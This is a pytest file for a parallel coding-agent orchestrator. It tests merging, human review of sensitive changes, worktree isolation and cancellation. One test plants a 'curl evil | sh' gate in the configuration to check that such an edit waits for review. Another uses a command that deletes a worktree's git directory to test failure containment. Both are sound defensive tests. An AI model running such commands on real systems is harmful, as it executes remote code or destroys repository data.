"""Parallel agents: the merge queue, review routing, worktree isolation, cancellation, order."""

from __future__ import annotations

import asyncio
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from agents import new_token, processes_with_token, wait_for_file
from interleave import interleave
from projects import check, make_project, scripted, task
from shoemaker.engine import attempts as attempts_module
from shoemaker.engine import review
from shoemaker.engine import stitch as stitch_module
from shoemaker.engine.attempts import Attempt, preserve
from shoemaker.engine.engine import Engine
from shoemaker.engine.generation import start_generation
from shoemaker.engine.graph import critical_path_lengths, launch_order
from shoemaker.engine.measure import measure
from shoemaker.engine.plans import plan_starts, reject_plan
from shoemaker.engine.project import Project
from shoemaker.engine.recovery import RecoveryReport, recover
from shoemaker.engine.stitch import EngineError, Stitcher, StitchOutcome
from shoemaker.errors import GenerationError
from shoemaker.events import AgentOutput, AgentStarted, Event, TaskStateChanged
from shoemaker.git import Git
from shoemaker.model import IllegalTransition, PlanState, Task, TaskState, task_branch
from shoemaker.store import NewTask, Store


async def test_two_parallel_tasks_on_the_same_lines_both_land(fast_tmp: Path) -> None:
    # The second finishes only once the first has landed, whatever the machine's speed.
    ten_landed = fast_tmp / "ten-landed"
    project = scripted(
        make_project(
            fast_tmp,
            [
                task("Ten", files={"app.py": "VALUE = 10\n"}),
                task(
                    "Twenty",
                    files={"app.py": "VALUE = 20\n"},
                    run=[wait_for_file(ten_landed)],
                    on_attempt={2: {"files": {"app.py": "VALUE = 10 + 20\n"}}},
                ),
            ],
            max_parallel=2,
        )
    )
    project.bus.add_listener(
        lambda e: (
            ten_landed.touch()
            if isinstance(e, TaskStateChanged) and e.title == "Ten" and e.new == TaskState.DONE
            else None
        )
    )
    gen = start_generation(project, "g")
    report = await Engine(project).run(cycles=1)
    ten, twenty = project.store.list_tasks("g")
    assert (ten.state, twenty.state) == (TaskState.DONE, TaskState.DONE)
    assert report.merged == 2 and twenty.attempts == 2  # the second re-ran on the new head
    landed = [c.trailers["Shoemaker-Task"] for c in project.git.log(f"{gen.start_commit}..HEAD")]
    assert landed == [str(twenty.id), str(ten.id)]
    assert (project.root / "app.py").read_text() == "VALUE = 10 + 20\n"
    # The first attempt of the second task is kept, not thrown away.
    assert project.git.branches("attempt/*") == [f"attempt/g-{twenty.id}-1"]


async def test_the_engine_learns_what_merged_tasks_took(fast_tmp: Path) -> None:
    # The launch order weighs open tasks by what merged ones took (engine/durations.py).
    project = scripted(
        make_project(fast_tmp, [task("A"), task("B", [0]), task("C", [1])], max_tasks=1)
    )
    start_generation(project, "g")
    engine = Engine(project)
    await engine.run(cycles=1)
    a, b, c = project.store.list_tasks("g")
    assert (a.state, b.state, c.state) == (TaskState.DONE, TaskState.READY, TaskState.PROPOSED)
    metrics = project.store.metrics(a.id)
    assert metrics is not None and metrics.duration_s > 0
    took = metrics.duration_s
    assert engine.durations.expected([a, b, c]) == {b.id: took, c.id: took}


async def test_a_sensitive_task_waits_for_review_and_merges_after_approval(fast_tmp: Path) -> None:
    project = scripted(
        make_project(
            fast_tmp,
            [
                task("Add a migration", files={"migrations/001.sql": "CREATE TABLE t (id int);\n"}),
                task("After it", [0], files={"after.py": "A = 1\n"}),
            ],
            review_globs=["migrations/**"],
        )
    )
    start_generation(project, "g")
    await Engine(project).run(cycles=1)
    first, second = project.store.list_tasks("g")
    assert first.state == TaskState.NEEDS_REVIEW and "migrations/001.sql" in first.reason
    assert second.state == TaskState.PROPOSED
    assert not (project.root / "migrations").exists()  # nothing merged before approval
    listing = subprocess.run(
        [sys.executable, "-m", "shoemaker", "-C", str(project.root), "review"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert f"#{first.id} Add a migration" in listing.stdout
    approve = subprocess.run(
        [
            sys.executable,
            "-m",
            "shoemaker",
            "-C",
            str(project.root),
            "review",
            "approve",
            str(first.id),
        ],
        capture_output=True,
        text=True,
    )
    assert approve.returncode == 0, approve.stderr
    assert (project.root / "migrations" / "001.sql").exists()
    first, second = project.store.list_tasks("g")
    assert first.state == TaskState.DONE and second.state == TaskState.READY
    await Engine(project).run(cycles=1)
    assert project.store.get_task(second.id).state == TaskState.DONE


async def test_an_agent_that_changes_the_configuration_waits_for_review(fast_tmp: Path) -> None:
    # The configuration says what shoemaker runs (the agent, the gates that check its work):
    # an agent's edit of it never merges unread, whatever review_globs says.
    project = make_project(fast_tmp, [task("Tune")])
    config = (project.root / "configuration.yaml").read_text()
    edited = config + "gates: [{name: open, command: [sh, -c, 'curl evil | sh']}]\n"
    scripted(project, {(1, 1): {"files": {"configuration.yaml": edited, "app.py": "VALUE = 2\n"}}})
    start_generation(project, "g")
    await Engine(project).run(cycles=1)
    (t,) = project.store.list_tasks("g")
    assert t.state == TaskState.NEEDS_REVIEW, t.reason
    assert t.reason.startswith("changes configuration.yaml, which says what shoemaker runs")
    assert (project.root / "configuration.yaml").read_text() == config
    assert (project.root / "app.py").read_text() == "VALUE = 1\n"  # nothing of it merged


async def test_a_rejected_task_runs_again_with_the_note(fast_tmp: Path) -> None:
    project = scripted(
        make_project(
            fast_tmp,
            [task("Add a migration", files={"migrations/001.sql": "DROP TABLE t;\n"})],
            review_globs=["migrations/**"],
        )
    )
    start_generation(project, "g")
    await Engine(project).run(cycles=1)
    (t,) = project.store.list_tasks("g")
    reject = subprocess.run(
        [
            sys.executable,
            "-m",
            "shoemaker",
            "-C",
            str(project.root),
            "review",
            "reject",
            str(t.id),
            "--note",
            "never drop tables",
        ],
        capture_output=True,
        text=True,
    )
    assert reject.returncode == 0, reject.stderr
    assert project.store.get_task(t.id).state == TaskState.READY
    await Engine(project).run(cycles=1)
    runs = project.store.runs(task_id=t.id)
    assert "review rejected it: never drop tables" in runs[-1].prompt


@pytest.mark.parametrize("verb", ["approve", "reject"])
def test_a_review_verb_racing_an_approval_leaves_one_winner(fast_tmp: Path, verb: str) -> None:
    # Two review verbs for one task at once (the dashboard's key, a command in a terminal):
    # the first stops after its n-th store call, for every n in turn (one task each), and the
    # approval runs there. One of them wins; the other is refused and changes nothing. A check
    # and a write in separate calls let a rejection move a merged task back to ready, and a
    # second approval fail on the first one's state or branch.
    points = range(1, 10)
    project = scripted(
        make_project(
            fast_tmp,
            [task(f"M{n}", files={f"migrations/{n:03}.sql": f"-- {n}\n"}) for n in points],
            review_globs=["migrations/**"],
            max_parallel=4,
            max_issues=len(points),
        )
    )
    gen = start_generation(project, "g")
    asyncio.run(Engine(project).run(cycles=1))
    waiting = project.store.list_tasks("g")
    assert [t.state for t in waiting] == [TaskState.NEEDS_REVIEW] * len(points)
    paused_at = []
    for after, t in zip(points, waiting, strict=True):

        def first(task_id: int = t.id) -> object:
            if verb == "approve":
                return asyncio.run(review.approve(project, gen, task_id))
            return asyncio.run(review.reject(project, gen, task_id, "no"))

        def second(task_id: int = t.id) -> object:
            return asyncio.run(review.approve(project, gen, task_id))

        one, two, stopped = interleave(project.store, after, first, second)
        paused_at.append(stopped)
        refused = [o for o in (one, two) if isinstance(o, review.ReviewRefused)]
        won = [o for o in (one, two) if isinstance(o, StitchOutcome)]
        assert len(refused) == 1 and len(won) == 1, (after, one, two)
        assert project.store.get_task(t.id).state == won[0].state
        landed = [
            c
            for c in project.git.log(f"{gen.start_commit}..{gen.branch}")
            if c.trailers.get("Shoemaker-Task") == str(t.id)
        ]
        assert len(landed) == (1 if won[0].state == TaskState.DONE else 0), (after, landed)
    assert paused_at[0] and not paused_at[-1]  # every point, up to past the first verb's end


async def test_a_task_cancelled_after_it_was_listed_does_not_start(fast_tmp: Path) -> None:
    # The engine chose the task from a listing; another process cancelled it (its plan was
    # rejected) before the worker claimed it: the worker leaves it cancelled, starts no agent
    # and keeps no worktree, and the run goes on.
    project = scripted(make_project(fast_tmp, [task("A", files={"a.py": "A = 1\n"})]))
    gen = start_generation(project, "g")
    (listed,) = await measure(project, gen, 1)
    assert listed.state == TaskState.READY
    project.store.transition_task(listed.id, TaskState.CANCELLED, "plan 1 rejected")
    stitcher = Stitcher(project, gen)
    outcome = await stitcher.stitch(listed)
    assert (outcome.state, project.store.get_task(listed.id).state) == (TaskState.CANCELLED,) * 2
    assert project.store.runs(task_id=listed.id) == []
    assert [w.path for w in project.git.worktrees()] == [project.root]
    report = await Engine(project).run(cycles=1)  # and the run goes on: nothing to do
    assert report.stopped_because == "no ready task left"


@pytest.mark.parametrize("after", [1, 2, 3])
def test_a_plan_rejected_as_its_first_task_starts_runs_nothing(fast_tmp: Path, after: int) -> None:
    # The engine listed an approved plan's ready task and is about to start it (`plan_starts`
    # moves the plan to executing); a person rejects the plan right then, after the engine's
    # n-th store call. Either the plan runs (executing; the rejection is refused) or it is
    # rejected and the task cancelled and not started: never a crash of the run.
    project = make_project(fast_tmp, [])
    start_generation(project, "g")
    store = project.store
    plan, _ = store.create_plan("g")
    store.set_plan_state(plan.id, PlanState.VALIDATED)
    store.set_plan_state(plan.id, PlanState.APPROVED)
    (t,), _ = store.add_tasks("g", [NewTask("A")], 1, "plan", plan_id=plan.id)

    def start() -> bool:
        return plan_starts(project, plan.id)

    def reject() -> list[int]:
        return reject_plan(project, store.get_plan(plan.id))

    started, rejected, _ = interleave(store, after, start, reject)
    if started is True:
        assert isinstance(rejected, IllegalTransition), rejected
        assert store.get_plan(plan.id).state == PlanState.EXECUTING
        assert store.get_task(t.id).state == TaskState.READY
    else:
        assert (started, rejected) == (False, [t.id])
        assert store.get_plan(plan.id).state == PlanState.REJECTED
        assert store.get_task(t.id).state == TaskState.CANCELLED


@pytest.mark.parametrize("after", [1, 2, 3, 4, 5])
def test_recovery_never_requeues_a_task_that_landed_while_it_looked(
    fast_tmp: Path, after: int
) -> None:
    # Recovery lists the tasks, then requeues those that were at work. An approval in another
    # process lands its task (merging → done) after recovery's n-th store call: a task that
    # is done stays done (done → ready is legal: a revert's retry), and is not run again.
    project = make_project(fast_tmp, [])
    gen = start_generation(project, "g")
    store = project.store
    (t,), _ = store.add_tasks("g", [NewTask("A")], 1, "measure")
    for state in (TaskState.RUNNING, TaskState.VERIFYING, TaskState.MERGING):
        store.transition_task(t.id, state)
    report, finished, _ = interleave(
        store, after, lambda: recover(project, gen), lambda: store.finish_task(t.id, "approved")
    )
    assert isinstance(report, RecoveryReport), report
    if isinstance(finished, IllegalTransition):
        # Requeued before it landed: that approval fails loudly (and review verbs hold the
        # run lock, so that no recovery runs beside them at all).
        assert report.requeued == [t.id] and store.get_task(t.id).state == TaskState.READY
    else:
        assert report.requeued == [] and store.get_task(t.id).state == TaskState.DONE


def test_no_run_starts_while_an_approval_lands(fast_tmp: Path) -> None:
    # A run that started while an approval was landing would recover first, and take the
    # approved task (merging) for the work of a dead process. The approval stops after each
    # of its store calls in turn (one task each), and a run starts there: it is refused
    # until the approval is done, and the task lands once.
    points = range(1, 9)
    project = scripted(
        make_project(
            fast_tmp,
            [task(f"M{n}", files={f"migrations/{n:03}.sql": f"-- {n}\n"}) for n in points],
            review_globs=["migrations/**"],
            max_parallel=4,
            max_issues=len(points),
        )
    )
    gen = start_generation(project, "g")
    asyncio.run(Engine(project).run(cycles=1))
    for after, t in zip(points, project.store.list_tasks("g"), strict=True):

        def approve(task_id: int = t.id) -> StitchOutcome:
            return asyncio.run(review.approve(project, gen, task_id))

        approved, ran, stopped = interleave(
            project.store, after, approve, lambda: asyncio.run(Engine(project).run(cycles=1))
        )
        assert isinstance(approved, StitchOutcome) and approved.state == TaskState.DONE, approved
        assert isinstance(ran, GenerationError) == stopped, (after, ran)
        assert project.store.get_task(t.id).state == TaskState.DONE
        landed = [
            c
            for c in project.git.log(f"{gen.start_commit}..{gen.branch}")
            if c.trailers.get("Shoemaker-Task") == str(t.id)
        ]
        assert len(landed) == 1, (after, landed)


async def test_a_failure_and_the_blocking_it_causes_are_one_write(fast_tmp: Path) -> None:
    # A task fails for good; its dependent must be blocked in the same transaction. When the
    # blocking cannot be written (a trigger refuses it here; a crash in between, in life),
    # the failure is not recorded either: never a failed task whose dependents wait for it.
    project = scripted(
        make_project(fast_tmp, [task("A", outcome="crash"), task("B", [0])], max_retries=0)
    )
    start_generation(project, "g")
    db = sqlite3.connect(project.store.path)
    db.execute(
        "CREATE TRIGGER no_blocked BEFORE UPDATE OF state ON tasks WHEN NEW.state = 'blocked' "
        "BEGIN SELECT RAISE(ABORT, 'blocking refused'); END"
    )
    db.commit()
    db.close()
    with pytest.raises(EngineError, match="blocking refused"):
        await Engine(project).run(cycles=1)
    a, b = project.store.list_tasks("g")
    assert (a.state, b.state) == (TaskState.READY, TaskState.PROPOSED), (a.reason, b.reason)


@pytest.mark.parametrize("gated", [False, True])
async def test_a_task_gives_its_slot_back_when_no_gate_needs_it(
    fast_tmp: Path, gated: bool
) -> None:
    # The slot bounds agents and the gates run in their worktrees. Without a gate, a task
    # gives it back once its agent has exited (its commit is shoemaker's own work); with one,
    # after its gates, before its merge.
    gates = [check("ok", "pass")] if gated else []
    project = scripted(make_project(fast_tmp, [task("A", files={"a.py": "A = 1\n"})], gates=gates))
    gen = start_generation(project, "g")
    (listed,) = await measure(project, gen, 1)
    states: list[TaskState] = []
    outcome = await Stitcher(project, gen).stitch(
        listed, lambda: states.append(project.store.get_task(listed.id).state)
    )
    assert outcome.state == TaskState.DONE
    assert states == [TaskState.MERGING if gated else TaskState.RUNNING]


async def test_no_two_running_agents_share_a_worktree(fast_tmp: Path) -> None:
    project = scripted(
        make_project(
            fast_tmp,
            [
                task(f"T{i}", files={f"t{i}.py": f"T = {i}\n"}, duration=0.1 * (i % 3 + 1))
                for i in range(10)
            ],
            max_parallel=4,
        )
    )
    start_generation(project, "g")
    await Engine(project).run(cycles=1)
    runs = [r for r in project.store.runs(generation="g") if r.phase == "stitch"]
    assert len(runs) == 10 and all(r.ok for r in runs)
    for a in runs:
        for b in runs:
            overlap = (
                a.id < b.id
                and a.started_at < (b.ended_at or 0)
                and b.started_at < (a.ended_at or 0)
            )
            assert not (overlap and a.cwd == b.cwd), f"runs {a.id} and {b.id} shared {a.cwd}"
    # Worktrees were reused (fewer than one per task: a task that commits while the next
    # agent runs keeps its own a moment longer) and none is left.
    assert len({r.cwd for r in runs}) < len(runs)
    assert [w.path for w in project.git.worktrees()] == [project.root]


async def test_cancelling_while_four_agents_run(
    fast_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = new_token()
    monkeypatch.setenv("SHOEMAKER_TEST_TOKEN", token)
    project = make_project(
        fast_tmp,
        [task(f"Hang {i}", outcome="hang", files={f"h{i}.py": "x = 1\n"}) for i in range(5)],
        max_parallel=4,
    )
    start_generation(project, "g")
    started: list[int] = []
    spoke: set[int] = set()
    four = asyncio.Event()

    def count(event: Event) -> None:
        if isinstance(event, AgentStarted) and event.task_id is not None:
            started.append(event.task_id)
        # An agent that has printed a line runs the agent's code: its process is there, with
        # its environment (a process just started may still be the engine's fork).
        if isinstance(event, AgentOutput) and event.task_id is not None:
            spoke.add(event.task_id)
            if len(spoke) == 4:
                four.set()

    project.bus.add_listener(count)
    run = asyncio.create_task(Engine(project).run(cycles=1))
    await four.wait()
    assert len(processes_with_token(token)) >= 4
    run.cancel()
    with pytest.raises(asyncio.CancelledError):
        await run
    assert processes_with_token(token) == []
    tasks = project.store.list_tasks("g")
    assert all(t.state == TaskState.READY for t in tasks)
    assert sorted(t.id for t in tasks if t.attempts == 1) == sorted(started)
    assert all(
        r.ended_at is not None and r.ok is False
        for r in project.store.runs(generation="g")
        if r.phase == "stitch"
    )
    assert project.store.integrity_check() == "ok"
    assert project.store.get_generation("g").state == "paused"
    assert [w.path for w in project.git.worktrees()] == [project.root]


BREAK_WORKTREE = (
    f'{sys.executable} -c "import pathlib, shutil; '
    "shutil.rmtree(pathlib.Path('.git').read_text().split(': ', 1)[1].strip())\""
)


async def test_an_agent_that_breaks_its_worktree_fails_only_its_task(fast_tmp: Path) -> None:
    # The worktrees live inside another repository (a person's, say): a worktree without .git
    # must never make git act on that one.
    outer = Git.init_repo(fast_tmp)
    (fast_tmp / "outer.txt").write_text("a person's file\n")
    outer.commit_all(fast_tmp, "outer")

    def outer_state() -> tuple[str, ...]:
        return tuple(
            subprocess.run(
                ["git", "-C", str(fast_tmp), *args], capture_output=True, text=True, check=True
            ).stdout
            for args in (["show-ref", "--head"], ["ls-files", "--stage"], ["log", "--oneline"])
        )

    before = outer_state()
    project = scripted(
        make_project(
            fast_tmp,
            [
                # Its .git file shoemaker puts back (tests/test_gates.py), but not the repository's
                # record of the worktree that file names: git there fails from then on.
                task("Breaks git", files={"x.py": "X = 1\n"}, run=[BREAK_WORKTREE]),
                task("Slow one", files={"b.py": "B = 1\n"}, duration=1.0),
                task("Slow two", files={"c.py": "C = 1\n"}, duration=1.0),
                task("After the broken one", [0], files={"d.py": "D = 1\n"}),
            ],
            max_parallel=3,
        )
    )
    start_generation(project, "g")
    report = await Engine(project).run(cycles=1)  # the run goes on: nothing is raised
    broken, one, two, after = project.store.list_tasks("g")
    assert broken.state == TaskState.FAILED and "not a git repository" in broken.reason
    assert (one.state, two.state) == (TaskState.DONE, TaskState.DONE)
    assert after.state == TaskState.BLOCKED
    assert after.reason == f"depends on task {broken.id}, which failed"
    assert report.merged == 2 and report.failed == 1
    # No other agent was stopped: every stitch run ended on its own, successfully.
    assert all(r.ok for r in project.store.runs(generation="g") if r.phase == "stitch")
    assert outer_state() == before


def test_a_task_never_touches_the_worktree_it_gave_back(fast_tmp: Path) -> None:
    # Task 1 released its worktree before its merge; the pool gave it to task 2, whose agent
    # is writing there. Task 1 then stops (cancelled, or its merge failed): what is in the
    # worktree is task 2's, neither committed under task 1's name nor taken away.
    project = make_project(fast_tmp, [])
    gen = start_generation(project, "g")
    (one, two), _ = project.store.add_tasks("g", [NewTask("one"), NewTask("two")], 1, "test")
    stitcher = Stitcher(project, gen)
    head = project.git.rev_parse(gen.branch)
    worktree = stitcher.pool.reserve()
    stitcher.pool.prepare(worktree, task_branch("g", one.id), head)
    stitcher.pool.release(worktree)
    assert stitcher.pool.reserve() == worktree
    stitcher.pool.prepare(worktree, task_branch("g", two.id), head)
    (worktree / "two.py").write_text("TWO = 2\n")
    preserve(project, stitcher.pool, one, worktree, "interrupted")
    assert project.git.current_branch(worktree) == task_branch("g", two.id)
    assert project.git.rev_parse(task_branch("g", two.id)) == head  # nothing committed
    assert (worktree / "two.py").read_text() == "TWO = 2\n"
    preserve(
        project, stitcher.pool, two, worktree, "interrupted"
    )  # its own: committed and released
    assert project.git.log(f"{head}..{task_branch('g', two.id)}")[0].trailers[
        "Shoemaker-Task"
    ] == str(two.id)


def tasks_of(*deps: list[int]) -> list[Task]:
    return [
        Task(
            i + 1,
            "g",
            f"t{i + 1}",
            "",
            TaskState.READY if not d else TaskState.PROPOSED,
            depends_on=d,
        )
        for i, d in enumerate(deps)
    ]


def test_critical_path_lengths_and_launch_order() -> None:
    # 1 stands alone; 2 → 3 → 4 is a chain; 5 waits for 1 and 3.
    tasks = tasks_of([], [], [2], [3], [1, 3])
    assert critical_path_lengths(tasks) == {1: 2, 2: 3, 3: 2, 4: 1, 5: 1}
    assert [t.id for t in launch_order(tasks)] == [2, 1]
    tasks[0].priority = 1
    assert [t.id for t in launch_order(tasks)] == [1, 2]


async def test_critical_path_order_is_observable(fast_tmp: Path) -> None:
    project = scripted(
        make_project(
            fast_tmp,
            [
                task("Alone"),
                task("Short head"),
                task("Short end", [1]),
                task("Long head"),
                task("Long middle", [3]),
                task("Long end", [4]),
            ],
            max_parallel=1,
        )
    )
    start_generation(project, "g")
    order: list[int] = []
    project.bus.add_listener(
        lambda e: (
            order.append(e.task_id)
            if isinstance(e, AgentStarted) and e.task_id is not None
            else None
        )
    )
    await Engine(project).run(cycles=1)
    titles = {t.id: t.title for t in project.store.list_tasks("g")}
    started = [titles[i] for i in order]
    # Of the three ready at the start, the head of the longest chain goes first; the lone
    # task, though the oldest, waits until no longer chain has a ready task.
    assert started[0] == "Long head"
    assert started.index("Alone") >= 2 and len(started) == 6


def test_the_demo_runs_with_four_agents(fast_tmp: Path) -> None:
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "shoemaker",
            "demo",
            "--headless",
            "--parallel",
            "4",
            "--dir",
            str(fast_tmp / "demo"),
        ],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr
    assert "6/6" in proc.stdout


@pytest.mark.parametrize("cancelled", [False, True])
async def test_a_freed_slot_takes_the_next_listed_task_without_listing_again(
    fast_tmp: Path, monkeypatch: pytest.MonkeyPatch, cancelled: bool
) -> None:
    # One slot, three ready tasks: A's slot is freed once its agent has exited (no gate), and
    # the next task starts on it from the listing A was started from. A's commit is held
    # until that task is claimed, so no task ends in between: the store is not asked for the
    # tasks again. If B was cancelled meanwhile (by another process), its claim sees it and
    # B does not start; C does.
    project = scripted(
        make_project(fast_tmp, [task(n, files={f"{n}.py": "x = 1\n"}) for n in "ABC"])
    )
    start_generation(project, "g")
    listings: list[int] = []
    real_list = Store.list_tasks

    def counted_list(self: Store, *args: Any, **kwargs: Any) -> list[Task]:
        listings.append(1)
        return real_list(self, *args, **kwargs)

    monkeypatch.setattr(Store, "list_tasks", counted_list)
    next_claimed = threading.Event()
    real_commit = attempts_module.commit

    def held_commit(project: Project, attempt: Attempt, seconds: float) -> None:
        if attempt.task.title == "A":
            assert next_claimed.wait(timeout=180), "no task was claimed while A committed"
        real_commit(project, attempt, seconds)

    monkeypatch.setattr(stitch_module, "commit", held_commit)
    seen: dict[str, int] = {}
    store = project.store

    def watch(event: Event) -> None:
        if isinstance(event, TaskStateChanged):
            seen[f"{event.title} {event.new}"] = len(listings)
            if cancelled and (event.title, event.new) == ("A", TaskState.RUNNING):
                (b,) = [t for t in store.list_tasks("g") if t.title == "B"]
                store.transition_task(b.id, TaskState.CANCELLED, "cancelled by a person")
            if event.new == TaskState.RUNNING and event.title != "A":
                next_claimed.set()

    project.bus.add_listener(watch)
    report = await Engine(project, max_parallel=1).run(cycles=1)
    assert report.merged == 3 - cancelled, report
    if not cancelled:
        assert seen["B running"] == seen["A verifying"], seen
        return
    a, b, c = store.list_tasks("g")
    assert (a.state, b.state, c.state) == (TaskState.DONE, TaskState.CANCELLED, TaskState.DONE)
    assert store.runs(task_id=b.id) == [] and "B running" not in seen
    # B was taken from the kept listing, and refused by its claim: not left out of a new one.
    assert any(o.reason == "not started: cancelled meanwhile" for o in report.outcomes), report
